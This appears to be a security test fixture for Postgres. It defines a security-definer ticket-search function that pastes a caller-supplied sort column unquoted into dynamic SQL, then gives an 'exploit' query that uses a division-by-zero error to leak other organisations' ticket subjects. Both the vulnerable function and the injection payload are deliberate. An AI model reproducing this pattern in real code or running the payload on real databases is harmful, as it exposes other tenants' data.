-- channel: dynamic SQL
-- object: public.search_tickets
-- says: A definer search pastes the sort column into its statement.
drop function public.search_tickets(uuid, text);
create function public.search_tickets(p_org uuid, p_words text, p_sort text default 'number')
returns setof public.tickets
language plpgsql stable security definer
set search_path = ''
as $$
begin
    if not private.is_member(p_org) then
        return;
    end if;
    return query execute format(
        'select t.* from public.tickets as t where t.org_id = %L '
        'and t.subject_search @@ plainto_tsquery(''simple'', %L) order by %s',
        p_org, p_words, p_sort
    );
end
$$;
grant execute on function public.search_tickets(uuid, text, text) to authenticated;
-- exploit as adam
select public.search_tickets(
    :org_a, 'Printer',
    '(select 1 / (not exists (select from public.tickets where subject like ''Router%''))::int)'
);
-- leaks when error ^22012
